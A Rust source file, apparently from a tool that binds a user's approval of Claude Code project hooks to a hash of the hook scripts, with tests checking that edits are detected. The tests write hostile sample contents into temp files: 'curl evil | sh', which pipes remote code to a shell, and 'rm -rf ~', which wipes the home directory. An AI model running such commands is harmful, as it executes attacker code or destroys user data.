//! The files a project's hooks run besides their settings: everything in `.claude/hooks/`
//! and `.waymark/hooks/`, and each file inside the project that a hook's command names
//! (`"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh`, `scripts/lint.py`). Their bytes go into
//! the hash the user's approval is bound to, so rewriting a script an approved hook runs asks
//! again, as rewriting the settings does. Code those files run in turn (a Makefile target,
//! a package's scripts) is not followed; the question says so.

use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};

/// The folders whose every file is covered.
pub const HOOK_FOLDERS: [&str; 2] = [".claude/hooks", ".waymark/hooks"];
/// The most files covered (past it the rest is named as one line in the hash and skipped).
const MAX_FILES: usize = 256;

/// Adds the covered files to `hash`, and returns their paths relative to `workspace`. The
/// files the commands name come first and are never left out; of the hook folders' files at
/// most [`MAX_FILES`] are hashed, and past that their number counts.
pub fn cover(workspace: &Path, commands: &[&str], hash: &mut Sha256) -> Vec<String> {
    let mut named: Vec<PathBuf> = Vec::new();
    for command in commands {
        for token in tokens(command, workspace) {
            let p = if Path::new(&token).is_absolute() {
                PathBuf::from(&token)
            } else {
                workspace.join(&token)
            };
            // A link named by a command counts too (as its target's name).
            if p.starts_with(workspace) && std::fs::symlink_metadata(&p).is_ok_and(|m| !m.is_dir())
            {
                named.push(p);
            }
        }
    }
    named.sort();
    named.dedup();
    let mut kept: Vec<PathBuf> = Vec::new();
    for folder in HOOK_FOLDERS {
        // `.claude` itself a link: its settings are not read either, and nothing is walked.
        let top = workspace.join(folder.split('/').next().unwrap_or(folder));
        if std::fs::symlink_metadata(&top).is_ok_and(|m| m.is_dir()) {
            walk(&workspace.join(folder), &mut kept);
        }
    }
    kept.sort();
    kept.dedup();
    kept.retain(|p| !named.contains(p));
    if kept.len() > MAX_FILES {
        hash.update(format!("script\0too many\0{}\0", kept.len()));
        kept.truncate(MAX_FILES);
    }
    let mut shown = Vec::new();
    for p in named.iter().chain(&kept) {
        let rel = p.strip_prefix(workspace).unwrap_or(p).display().to_string();
        hash.update(format!("script\0{rel}\0"));
        if let Err(e) = hash_file(p, hash) {
            hash.update(format!("error\0{e}\0"));
        }
        shown.push(rel);
    }
    shown
}

/// The words of `command` that could name a file: split at blanks and shell punctuation,
/// quotes dropped, `$CLAUDE_PROJECT_DIR` (in each of its spellings) read as the project.
fn tokens(command: &str, workspace: &Path) -> Vec<String> {
    let ws = workspace.display().to_string();
    let expanded = command
        .replace("${CLAUDE_PROJECT_DIR}", &ws)
        .replace("$CLAUDE_PROJECT_DIR", &ws);
    expanded
        .split(|c: char| c.is_whitespace() || ";|&<>()`".contains(c))
        // Quotes anywhere in a word (`"$CLAUDE_PROJECT_DIR"/x.sh`) are the shell's.
        .map(|t| t.replace(['"', '\''], ""))
        .filter(|t| !t.is_empty() && !t.starts_with('-') && t.len() < 4096)
        .collect()
}

/// Every plain file under `dir`, links not followed, at most [`MAX_FILES`] looked at.
fn walk(dir: &Path, into: &mut Vec<PathBuf>) {
    let Ok(meta) = std::fs::symlink_metadata(dir) else {
        return;
    };
    if !meta.is_dir() {
        if meta.file_type().is_symlink() {
            // A link where a hook folder goes: its target counts, not what it points at.
            into.push(dir.to_path_buf());
        }
        return;
    }
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            if into.len() > MAX_FILES {
                return;
            }
            let Ok(t) = e.file_type() else { continue };
            if t.is_dir() {
                stack.push(e.path());
            } else {
                into.push(e.path());
            }
        }
    }
}

/// Adds a covered file to `hash`: its size and every byte (a link: its target's name; a
/// FIFO or device: its kind), read whole so no change past any limit goes unseen.
fn hash_file(p: &Path, hash: &mut Sha256) -> std::io::Result<()> {
    use std::os::unix::fs::OpenOptionsExt;
    let meta = std::fs::symlink_metadata(p)?;
    if meta.file_type().is_symlink() {
        hash.update(format!("link\0{}\0", std::fs::read_link(p)?.display()));
        return Ok(());
    }
    if !meta.is_file() {
        hash.update("not a plain file\0");
        return Ok(());
    }
    let mut f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(p)?;
    hash.update(format!("{}\0", meta.len()));
    std::io::copy(&mut f, hash)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hash_of(ws: &Path, commands: &[&str]) -> (String, Vec<String>) {
        let mut h = Sha256::new();
        let shown = cover(ws, commands, &mut h);
        (
            h.finalize().iter().map(|b| format!("{b:02x}")).collect(),
            shown,
        )
    }

    #[test]
    fn a_script_a_hook_names_or_keeps_in_a_hook_folder_counts() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path().canonicalize().unwrap();
        std::fs::create_dir_all(ws.join(".claude/hooks/lib")).unwrap();
        std::fs::write(ws.join(".claude/hooks/check.sh"), "exit 0").unwrap();
        std::fs::write(ws.join(".claude/hooks/lib/util.sh"), "true").unwrap();
        std::fs::create_dir_all(ws.join("scripts")).unwrap();
        std::fs::write(ws.join("scripts/lint.py"), "print(1)").unwrap();
        let commands = [
            "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh",
            "python3 scripts/lint.py --fix",
            "echo nothing here",
        ];
        let (a, shown) = hash_of(&ws, &commands);
        // The scripts the commands name first, then the rest of the hook folders.
        assert_eq!(
            shown,
            [
                ".claude/hooks/check.sh",
                "scripts/lint.py",
                ".claude/hooks/lib/util.sh"
            ]
        );
        for (file, text) in [
            (".claude/hooks/check.sh", "curl evil | sh"),
            (".claude/hooks/lib/util.sh", "rm -rf ~"),
            ("scripts/lint.py", "import os"),
        ] {
            let before = std::fs::read_to_string(ws.join(file)).unwrap();
            std::fs::write(ws.join(file), text).unwrap();
            assert_ne!(hash_of(&ws, &commands).0, a, "{file} changed unseen");
            std::fs::write(ws.join(file), before).unwrap();
        }
        assert_eq!(hash_of(&ws, &commands).0, a);
        // A new file in the hook folder counts too.
        std::fs::write(ws.join(".claude/hooks/new.sh"), "x").unwrap();
        let b = hash_of(&ws, &commands).0;
        assert_ne!(b, a);
        // A change past the first mebibyte of a big script counts (red-team).
        let mut big = vec![b'#'; 3 * 1024 * 1024];
        std::fs::write(ws.join("scripts/lint.py"), &big).unwrap();
        let before = hash_of(&ws, &commands).0;
        *big.last_mut().unwrap() = b'!';
        std::fs::write(ws.join("scripts/lint.py"), &big).unwrap();
        assert_ne!(hash_of(&ws, &commands).0, before);
        // A named script is covered however many files the hook folder holds.
        for n in 0..300 {
            std::fs::write(ws.join(format!(".claude/hooks/f{n:03}.sh")), "x").unwrap();
        }
        let many = hash_of(&ws, &commands);
        assert!(many.1.contains(&"scripts/lint.py".to_string()));
        std::fs::write(ws.join("scripts/lint.py"), "changed").unwrap();
        assert_ne!(hash_of(&ws, &commands).0, many.0);
    }

    #[test]
    fn files_outside_the_project_and_links_are_not_read_through() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path().canonicalize().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("x.sh"), "a").unwrap();
        std::os::unix::fs::symlink(outside.path(), ws.join(".waymark")).unwrap();
        let cmd = format!("sh {}", outside.path().join("x.sh").display());
        let (a, shown) = hash_of(&ws, &[&cmd]);
        assert!(shown.is_empty(), "{shown:?}");
        std::fs::write(outside.path().join("x.sh"), "b").unwrap();
        assert_eq!(
            hash_of(&ws, &[&cmd]).0,
            a,
            "a file outside the project is not covered"
        );
    }
}
